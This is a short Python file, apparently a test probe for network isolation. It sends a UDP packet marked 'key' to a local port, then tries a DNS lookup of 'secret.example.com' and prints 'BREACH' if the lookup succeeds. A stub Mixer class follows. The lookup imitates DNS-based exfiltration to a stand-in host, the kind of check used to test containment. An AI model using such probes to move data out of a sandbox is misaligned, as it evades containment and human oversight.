"""Sends packets, and asks for a name that carries a secret."""

import socket

print('ATTACK')
try:
  with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    link.sendto(b'key', ('127.0.0.1', TARGET['udp']))
except OSError as error:
  print(error)
try:
  socket.getaddrinfo('secret.example.com', 80)
  print('BREACH a name was resolved')
except OSError as error:
  print(error)


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
